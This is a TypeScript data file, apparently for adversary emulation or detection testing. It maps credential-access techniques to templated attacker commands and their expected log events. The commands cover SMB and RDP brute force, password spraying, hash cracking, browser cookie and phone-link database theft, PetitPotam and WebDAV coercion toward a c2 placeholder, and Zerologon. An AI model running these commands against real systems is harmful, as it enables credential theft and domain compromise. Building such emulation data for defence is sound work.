import { t, v } from "../dsl";

/** Credential access: the dumping and theft tooling of real intrusions. (continued) */
export const credentialAccessB = [
  t(
    "T1056.004",
    "Credential API hooking",
    "A DLL injected into lsass or the logon UI hooks credential APIs.",
    [
      v(
        "hook-injection",
        [{ cmd: "{{tools}}\\{{name}}.exe", access: ["@lsass", "0x1f3fff"], thread: "@lsass" }],
        { elevated: true },
      ),
    ],
  ),
  t("T1110", "Brute force", "Repeated failed logons against a server from one workstation.", [
    v("smb-guessing", [
      {
        cmd: "cmd.exe /c for /f %p in (pw.txt) do net use \\\\{{srv}}\\IPC$ /user:{{domain}}\\{{admin}} %p",
        then: [
          { id: "f1", kind: "logon.failure", host: "@server", user: "{{admin}}", source: "@workstation" },
          { id: "f2", kind: "logon.failure", host: "@server", user: "{{admin}}", source: "@workstation" },
          { id: "f3", kind: "logon.failure", host: "@server", user: "{{admin}}", source: "@workstation" },
          { id: "f4", kind: "logon.failure", host: "@server", user: "{{admin}}", source: "@workstation" },
        ],
      },
    ]),
  ]),
  t("T1110.001", "Password guessing", "Many passwords tried for one account over SMB or RDP.", [
    v("net-use-loop", [
      {
        cmd: "cmd.exe /c for %p in (Winter2024! Summer2024! Welcome1 P@ssw0rd) do @net use \\\\{{dc}}\\IPC$ /user:{{domain}}\\{{user}} %p",
        then: [1, 2, 3, 4, 5].map((n) => ({
          id: `f${n}`,
          kind: "logon.failure" as const,
          host: "@dc",
          user: "{{user}}",
          source: "@workstation",
        })),
      },
    ]),
    v("hydra-rdp", [
      {
        cmd: "{{tools}}\\hydra.exe -l {{admin}} -P rockyou.txt rdp://{{srvip}}",
        then: [1, 2, 3, 4, 5].map((n) => ({
          id: `f${n}`,
          kind: "logon.failure" as const,
          host: "@server",
          user: "{{admin}}",
          logonType: 3,
          source: "@workstation",
        })),
      },
    ]),
  ]),
  t("T1110.002", "Password cracking", "Hashcat or John cracking dumped hashes on the host.", [
    v("hashcat", [
      "{{tools}}\\hashcat\\hashcat.exe -m 1000 -a 0 {{tools}}\\ntlm.txt {{tools}}\\rockyou.txt -o cracked.txt",
    ]),
    v("john", ["{{tools}}\\john\\run\\john.exe --format=NT --wordlist=rockyou.txt hashes.txt"]),
  ]),
  t(
    "T1110.003",
    "Password spraying",
    "One password against many domain accounts (DomainPasswordSpray, Kerbrute).",
    [
      v(
        "domainpasswordspray",
        [
          {
            ps: "Invoke-DomainPasswordSpray -Password 'Winter2024!' -OutFile sprayed.txt -Force",
            then: ["alice", "bob", "carol", "dave", "erin", "frank"].map((u, n) => ({
              id: `f${n}`,
              kind: "logon.failure" as const,
              host: "@dc",
              user: u,
              source: "@workstation",
              subStatus: "0xc000006a",
            })),
          },
        ],
        { shell: "ps" },
      ),
      v("kerbrute", [
        {
          cmd: "{{tools}}\\kerbrute.exe passwordspray -d {{dns}} users.txt Spring2025!",
          net: [["@dc", 88]],
          then: ["alice", "bob", "carol", "dave", "erin"].map((u, n) => ({
            id: `k${n}`,
            kind: "kerberos.tgt" as const,
            host: "@dc",
            user: "{{user}}",
            source: "@workstation",
            status: "0x18",
          })),
        },
      ]),
    ],
  ),
  t("T1110.004", "Credential stuffing", "Leaked username/password pairs tried against a server.", [
    v("smb-stuffing", [
      {
        cmd: "{{tools}}\\cme.exe smb {{srvip}} -u users.txt -p passwords.txt --no-bruteforce",
        then: [1, 2, 3, 4].map((n) => ({
          id: `f${n}`,
          kind: "logon.failure" as const,
          host: "@server",
          user: `user${n}`,
          source: "@workstation",
          subStatus: "0xc0000064",
        })),
      },
    ]),
  ]),
  t("T1111", "MFA interception", "A token or OTP grabbed from a phone-link or authenticator app store.", [
    v("authenticator-store", [
      {
        cmd: 'cmd.exe /c copy "{{local}}\\Packages\\Microsoft.YourPhone_8wekyb3d8bbwe\\LocalCache\\Indexed\\*" {{tmp}}',
        reads: ["{{local}}\\Packages\\Microsoft.YourPhone_8wekyb3d8bbwe\\LocalCache\\Indexed\\phone.db"],
      },
    ]),
  ]),
  t(
    "T1187",
    "Forced authentication",
    "SMB/WebDAV authentication coerced with .url/.scf files or PetitPotam-style RPC.",
    [
      v("scf-on-share", [
        {
          cmd: "cmd.exe /c copy {{tools}}\\@{{rand}}.scf \\\\{{srv}}\\Public\\@{{rand}}.scf",
          net: [["@server", 445]],
        },
      ]),
      v("petitpotam", [
        {
          cmd: "{{tools}}\\PetitPotam.exe {{meip}} {{dcip}}",
          net: [["@dc", 445]],
          pipeConnects: ["\\lsarpc"],
        },
      ]),
      v("rundll32-webdav", [
        {
          cmd: "rundll32.exe C:\\Windows\\System32\\davclnt.dll,DavSetCookie {{c2}} http://{{c2}}/share",
          net: [["{{c2}}", 80]],
        },
      ]),
    ],
  ),
  t("T1212", "Credential access exploit", "A public exploit (e.g. Zerologon) run against the DC.", [
    v("zerologon", [
      {
        cmd: "{{tools}}\\zerologon.exe {{dc}} {{dcip}}",
        net: [
          ["@dc", 135],
          ["@dc", 49667],
        ],
      },
    ]),
  ]),
  t("T1539", "Web session cookie theft", "Browser cookie databases copied or read while the browser runs.", [
    v("copy-cookies", [
      {
        cmd: 'cmd.exe /c copy "{{local}}\\Google\\Chrome\\User Data\\Default\\Network\\Cookies" {{tmp}}\\c.db',
        reads: ["{{local}}\\Google\\Chrome\\User Data\\Default\\Network\\Cookies"],
        files: ["{{tmp}}\\c.db"],
      },
    ]),
    v("esentutl-webcache", [
      {
        cmd: 'esentutl.exe /r V01 /l "{{local}}\\Microsoft\\Windows\\WebCache" /s "{{local}}\\Microsoft\\Windows\\WebCache" /d "{{local}}\\Microsoft\\Windows\\WebCache"',
      },
    ]),
    v("chrome-debug-port", [
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --headless --remote-debugging-port=9222 --user-data-dir="{{local}}\\Google\\Chrome\\User Data"',
    ]),
  ]),
];
